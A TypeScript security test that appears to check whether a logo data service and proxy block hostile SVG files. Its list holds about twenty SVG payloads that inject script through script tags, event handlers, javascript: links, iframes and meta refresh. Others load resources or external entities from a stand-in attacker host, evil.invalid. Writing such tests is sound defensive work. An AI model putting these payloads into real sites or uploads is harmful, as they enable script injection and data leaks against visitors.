import { createServer } from 'node:http';
import { startDataService } from '../../server-data/app.ts';
import { createKey, hashKey } from '../../server-data/keys.ts';
import { openSqliteStore } from '../../server-data/store/sqlite/open.ts';
import { buildListing, buildLogo } from '../../server-data/testing/logos.ts';
import { defaultSettings, upstreamAddress } from '../../server-proxy/config.ts';
import { startProxy } from '../../server-proxy/start.ts';
import type { Shortest } from '../support/bench.ts';
import { listen } from '../support/processes.ts';
import type { Table } from '../support/table.ts';
import { openWatchedBrowser, type Incidents, type WatchedBrowser } from '../support/watched-browser.ts';

export const question = 'Can a hostile SVG run script or send a request where a logo is served, opened as a page or shown on one?';

const evil = 'http://evil.invalid';
const svg = (content: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}>${content}<rect width="9" height="9"/></svg>`;
const html = (content: string): string =>
  svg(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${content}</body></foreignObject>`);
const nested = svg(`<script>ran=1</script><image href="${evil}/d.png"/>`);

/** Each tries in its own way to run `ran=1`, or to send a request to `evil`. */
const allDrawings: readonly string[] = [
  // scripts
  svg('<script>ran=1</script>'),
  svg('<script><![CDATA[ran=1]]></script>'),
  svg(`<script href="${evil}/a.js"/><script xlink:href="${evil}/b.js"/>`),
  svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran=1</x:script>'),
  // handlers
  svg('', ' onload="ran=1"'),
  svg('<path onload="ran=1" d="M0 0"/><image href="data:," onerror="ran=1"/>'),
  svg('<animate attributeName="x" begin="0s" dur="1s" onbegin="ran=1"/><set attributeName="x" to="1" onbegin="ran=1"/>'),
  svg('<a><animate attributeName="href" to="javascript:ran=1"/><rect width="9" height="9"/></a>'),
  // resources
  svg(`<image href="${evil}/c.png" width="9" height="9"/>`),
  svg(`<image href="data:image/svg+xml,${encodeURIComponent(nested)}" width="9" height="9"/>`),
  svg(`<use href="${evil}/e.svg#a"/>`),
  svg(
    `<style>@import url(${evil}/f.css); @font-face { font-family: x; src: url(${evil}/g) } rect { fill: url(${evil}/h.svg#a); font: 9px x }</style><text y="9">x</text>`,
  ),
  `<?xml-stylesheet href="${evil}/i.css"?>${svg('')}`,
  `<?xml-stylesheet type="text/xsl" href="${evil}/j.xsl"?>${svg('')}`,
  `<!DOCTYPE svg [<!ENTITY a SYSTEM "${evil}/k">]>${svg('<text>&a;</text>')}`,
  // HTML inside
  html(`<img src="${evil}/l" onerror="ran=1"/><video src="${evil}/m"/><object data="${evil}/n"/><embed src="${evil}/o"/>`),
  html(`<iframe src="${evil}/p"></iframe><iframe srcdoc="&lt;script>parent.ran=1&lt;/script>"></iframe>`),
  html('<input autofocus="" onfocus="ran=1"/><details open="" ontoggle="ran=1"/>'),
  html(`<meta http-equiv="refresh" content="0;url=${evil}/q"/>`),
  html(`<link rel="stylesheet" href="${evil}/r"/><link rel="prefetch" href="${evil}/s"/>`),
];

/** What is opened, and a page of the same origin that shows it as an image. */
interface Served extends AsyncDisposable {
  readonly origins: Readonly<Record<string, string>>;
  readonly paths: readonly string[];
  readonly pagePath: string;
}

/** The drawings without any of our headers, to see that they do what they can. */
async function serveUnprotected(drawings: readonly string[]): Promise<Served> {
  const server = createServer(({ url = '' }, response) => {
    const [, index] = /^\/(\d+)$/.exec(url) ?? [];
    response.setHeader('content-type', index === undefined ? 'text/html' : 'image/svg+xml');
    response.end(index === undefined ? '<!doctype html>' : drawings[Number(index)]);
  });
  return {
    origins: { 'without our headers': await listen(server) },
    paths: drawings.map((_, index) => `/${index}`),
    pagePath: '/',
    [Symbol.asyncDispose]: () => server[Symbol.asyncDispose](),
  };
}

async function serveOurs(drawings: readonly string[]): Promise<Served> {
  const symbols = drawings.map((_, index) => `H${index}`);
  const store = openSqliteStore({ path: ':memory:' });
  store.writeLogos(
    drawings.map((drawing, index) =>
      buildLogo(index + 1, [buildListing(`H${index}`, { cik: String(index + 1) })], { images: { mark_vector_light: drawing } }),
    ),
  );
  const key = createKey();
  store.addKey({ name: 'proof', hash: hashKey(key), plan: ['logos'], cusip: false, createdSeconds: 0 });
  const service = await startDataService({
    ...{ store, host: '127.0.0.1', port: 0, rateLimitPerMinute: 1_000_000, now: Date.now, log: () => undefined },
    images: { url: '' },
  });
  const proxy = await startProxy({ config: { ...defaultSettings, upstream: upstreamAddress(service.url, key) }, port: 0 });
  const response = await fetch(`${service.url}/api/v2/logos/search?search_keys=${symbols.join()}&fields=mark_vector_light`, {
    headers: { authorization: `token ${key}` },
  });
  const { data } = (await response.json()) as { data: { files: { mark_vector_light: string } }[] };
  return {
    origins: { 'the data service': service.url, 'the proxy': proxy.url.replace(/\/$/, '') },
    paths: data.map(({ files }) => files.mark_vector_light),
    pagePath: '/healthz',
    [Symbol.asyncDispose]: async () => {
      await proxy.close();
      await service.close();
      store.close();
    },
  };
}

/** Opens every drawing as a page, and shows it on a page. */
async function openAll(browser: WatchedBrowser, { paths, pagePath }: Served, origin: string, settleMs: number): Promise<Incidents> {
  await using watched = await browser.open({ bypassCSP: false, ourHost: new URL(origin).host });
  const { context, incidents } = watched;
  const page = await context.newPage();
  for (const url of paths.map((path) => origin + path)) {
    await page.goto(url).catch(() => undefined);
    await page.waitForTimeout(settleMs);
    if (page.url() !== url) incidents.windows.push(page.url());
    await page.goto(origin + pagePath);
    await page.evaluate(async (src) => {
      const image = new Image();
      image.src = src;
      await image.decode().catch(() => undefined);
    }, url);
    await page.waitForTimeout(settleMs / 4);
  }
  return incidents;
}

/** @param settleMs time for everything that begins by itself */
async function prove(drawings: readonly string[], settleMs: number): Promise<Table[]> {
  await using browser = await openWatchedBrowser();
  await using ours = await serveOurs(drawings);
  await using unprotected = await serveUnprotected(drawings);
  const rows: Table['rows'][number][] = [];
  for (const served of [ours, unprotected])
    for (const [name, origin] of Object.entries(served.origins)) {
      // The browser reports requests that it then refuses; what counts is how many reached the network.
      const { ran, reached, windows } = await openAll(browser, served, origin, settleMs);
      rows.push([name, ran, reached.length, windows.length]);
      if (served === ours && ran + reached.length + windows.length > 0) throw new Error(`incidents: ${JSON.stringify(rows.at(-1))}`);
      if (served === unprotected && (ran === 0 || reached.length === 0)) throw new Error('without our headers the drawings do nothing');
    }
  return [
    {
      title: `${drawings.length} hostile drawings, opened as pages and shown on one`,
      columns: ['served by', 'scripts run', 'requests', 'pages that navigated'],
      rows,
    },
  ];
}

export const run = (): Promise<Table[]> => prove(allDrawings, 400);

/** A script and an image: both traps spring without our headers. */
export const shortest: Shortest = { run: () => prove([allDrawings[0] ?? '', allDrawings[8] ?? ''], 100) };
